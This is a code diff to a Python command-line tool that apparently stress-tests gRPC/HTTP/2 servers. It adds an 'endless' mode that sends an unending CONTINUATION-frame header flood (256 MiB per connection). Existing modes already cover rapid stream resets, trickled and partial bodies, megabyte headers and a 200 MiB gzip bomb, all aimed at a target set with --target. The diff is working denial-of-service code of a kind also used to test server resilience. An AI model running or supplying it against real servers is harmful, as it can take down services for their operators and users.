@@ -7,7 +7,8 @@
        partial   streams that announce a message of 240 MiB and send its first MiB, or what the server takes of it
        trickle   as partial, and then a byte every 0.2 s
        resets    streams that are begun and reset at once, as fast as the server reads
-       metadata  streams with a megabyte of headers
+       metadata  small calls with a megabyte of headers
+       endless   one block of headers that never ends, in CONTINUATION frames: 256 MiB for each connection
        bomb      a message of 200 MiB of zeros, compressed by gzip
 
 Connections and streams that the server ends are begun again. Prints "holding" once all have been begun, and at the end a
@@ -17,6 +18,7 @@ line of JSON: "begun" and "ended" streams, and the connections that were "lost".
 from __future__ import annotations
 
 import argparse
+import collections
 import functools
 import json
 import signal
@@ -30,6 +32,8 @@ import messages
 ANNOUNCED = 240 << 20
 FIRST_PART = 1 << 20
 RESETS_AT_ONCE = 200
+ENDLESS = 256 << 20
+HEADER = b"\0" + http2.hpack_text(b"x-more") + http2.hpack_text(b"v" * 8000)
 
 
 @functools.cache
@@ -42,13 +46,17 @@ class Attack:
     def __init__(self, options: argparse.Namespace):
         self.options = options
         self.connections: list[http2.Connection | None] = [None] * options.connections
+        self.flooded: collections.Counter[int] = collections.Counter()
         self.begun = self.ended = self.lost = 0
 
     def open(self, connection: http2.Connection) -> None:
         kind = self.options.kind
         self.begun += 1
         if kind == "metadata":
-            connection.open(messages.COMPUTE, [(f"x-{i}", "v" * 8192) for i in range(128)])
+            stream = connection.open(messages.COMPUTE, [(f"x-{i}", "v" * 8192) for i in range(128)])
+            connection.send(stream, messages.Call().message(), end=True)
+        elif kind == "endless":
+            connection.open(messages.COMPUTE, last=False)
         elif kind == "bomb":
             stream = connection.open(messages.COMPUTE, [("grpc-encoding", "gzip")])
             connection.send(stream, [bomb()], end=True, compressed=True)
@@ -61,6 +69,16 @@ class Attack:
                 connection.raw(http2.frame(http2.RST_STREAM, 0, stream.id, struct.pack(">I", 8)))
                 del connection.streams[stream.id]
                 self.ended += 1
+
+    def go_on(self, connection: http2.Connection) -> None:
+        """More of what never ends."""
+        for stream in connection.streams.values():
+            if self.options.kind == "endless" and connection.sent() and self.flooded[id(stream)] < ENDLESS:
+                self.flooded[id(stream)] += 100 * len(HEADER)
+                for _ in range(100):
+                    connection.raw(http2.frame(http2.CONTINUATION, 0, stream.id, HEADER))
+            if self.options.kind == "trickle" and not stream.pending and not stream.closed:
+                stream.pending.append(messages.zeros(1))
 
     def renew(self) -> None:
         """Begins what there should be and is not."""
@@ -76,7 +94,7 @@ class Attack:
             for stream in [stream for stream in connection.streams.values() if stream.closed]:
                 del connection.streams[stream.id]
                 self.ended += 1
-            wanted = RESETS_AT_ONCE if self.options.kind == "resets" else self.options.streams
+            wanted = {"resets": RESETS_AT_ONCE, "endless": 1}.get(self.options.kind, self.options.streams)
             for _ in range(wanted - len(connection.streams)):
                 self.open(connection)
             connection.pump_until(connection.sent if self.options.kind == "resets" else lambda: True, 1)
@@ -90,11 +108,10 @@ class Attack:
             alive = [connection for connection in self.connections if connection is not None]
             for connection in alive:
                 connection.pump(0.05 / len(alive))
-            if self.options.kind == "trickle" and time.monotonic() - trickled > 0.2:
+            if self.options.kind == "endless" or time.monotonic() - trickled > 0.2:
                 trickled = time.monotonic()
-                for stream in [stream for connection in alive for stream in connection.streams.values()]:
-                    if not stream.pending and not stream.closed:
-                        stream.pending.append(messages.zeros(1))
+                for connection in alive:
+                    self.go_on(connection)
             if self.options.kind == "resets" or time.monotonic() - renewed > 0.5:
                 renewed = time.monotonic()
                 self.renew()
@@ -104,7 +121,7 @@ def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("--target", required=True, help="host:port or unix:path")
     parser.add_argument("--source", help="the address to call from")
-    kinds = ("headers", "partial", "trickle", "resets", "metadata", "bomb")
+    kinds = ("headers", "partial", "trickle", "resets", "metadata", "endless", "bomb")
     parser.add_argument("--kind", choices=kinds, required=True)
     parser.add_argument("--connections", type=int, default=1)
     parser.add_argument("--streams", type=int, default=100, help="of each connection, at once")
